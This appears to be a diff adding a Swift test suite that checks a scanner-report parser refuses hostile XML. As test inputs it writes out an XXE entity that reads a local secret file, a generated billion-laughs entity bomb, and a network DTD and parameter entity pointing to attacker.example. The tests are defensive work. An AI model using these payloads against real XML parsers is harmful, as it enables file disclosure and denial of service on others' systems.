@@ -1,0 +1,70 @@
+import Foundation
+import Testing
+import VigilCore
+@testable import VigilScans
+
+/// Scanner reports come from outside: entities (external ones, "billion laughs") are refused
+/// before anything is read, nothing is fetched, and a plain document type line is fine.
+@Suite("Hostile XML")
+struct HostileXMLTests {
+    func refusal(_ text: String) -> ScanReportError? {
+        do {
+            _ = try Samples.read(try Samples.file(text))
+            return nil
+        } catch let error as ScanReportError {
+            return error
+        } catch {
+            return ScanReportError("", "\(error)")
+        }
+    }
+
+    @Test("an external entity (XXE) is refused, and the file it names is never read")
+    func externalEntity() throws {
+        let secret = try Samples.file("TOP-SECRET-\(UUID().uuidString)")
+        let xxe = """
+            <?xml version="1.0"?>
+            <!DOCTYPE report [ <!ENTITY xxe SYSTEM "file://\(secret)"> ]>
+            <report><results><result><name>&xxe;</name><host>10.0.0.1</host><port>80/tcp</port>
+            <nvt oid="1"><name>&xxe;</name></nvt><severity>5.0</severity></result></results></report>
+            """
+        let error = try #require(refusal(xxe))
+        #expect(error.reason.contains("declarations"))
+        #expect(error.location == "line 2")
+    }
+
+    @Test("billion laughs is refused at once")
+    func billionLaughs() throws {
+        var entities = #"<!ENTITY lol "lol">"#
+        for level in 1...9 {
+            entities += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
+        }
+        let bomb = "<?xml version=\"1.0\"?>\n<!DOCTYPE report [\(entities)]>\n<report><results><result><name>&lol9;</name></result></results></report>"
+        let clock = ContinuousClock()
+        let started = clock.now
+        #expect(refusal(bomb) != nil)
+        #expect(clock.now - started < .seconds(1))
+    }
+
+    @Test("a network DTD or a parameter entity is refused; an undeclared entity reference is malformed")
+    func others() {
+        #expect(refusal(#"<?xml version="1.0"?><!DOCTYPE report SYSTEM "http://attacker.example/x.dtd" [ <!ENTITY % p SYSTEM "http://attacker.example/p"> %p; ]><report/>"#) != nil)
+        #expect(refusal("<?xml version=\"1.0\"?><!ENTITY x \"y\"><report/>") != nil)
+        let undeclared = refusal("<report><results><result><name>&undeclared;</name></result></results></report>")
+        #expect(undeclared?.location.hasPrefix("line") == true)
+    }
+
+    @Test("a plain document type line (as in every Nmap report) and a DTD that is only named are accepted, nothing fetched")
+    func plainDoctype() throws {
+        #expect(throws: Never.self) { try XMLProlog.check(Array("<?xml version=\"1.0\"?>\n<!DOCTYPE nmaprun>\n<?xml-stylesheet href=\"x\"?>\n<!-- a > b -->\n<nmaprun/>".utf8)) }
+        let named = "<?xml version=\"1.0\"?><!DOCTYPE report SYSTEM \"http://127.0.0.1:9/never.dtd\"><report><results/></report>"
+        let (summary, results) = try Samples.read(try Samples.file(named))
+        #expect(summary.format == .openvas && results.isEmpty)
+    }
+
+    @Test("what is not a report is refused by its content, whatever its name")
+    func unknown() {
+        #expect(refusal("<html><body>not a report</body></html>")?.reason.contains("not a report Vigil reads") == true)
+        #expect(refusal("") != nil)
+        #expect(refusal("\u{FEFF}   ") != nil)
+    }
+}
